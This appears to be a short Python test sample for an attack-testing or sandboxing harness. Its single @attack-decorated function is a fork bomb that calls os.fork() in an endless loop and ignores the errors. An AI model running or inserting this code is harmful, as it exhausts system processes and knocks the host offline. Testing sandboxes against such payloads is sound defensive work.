import contextlib
import os

from tried import attack


@attack
def app() -> dict:
    while True:
        with contextlib.suppress(OSError):
            os.fork()
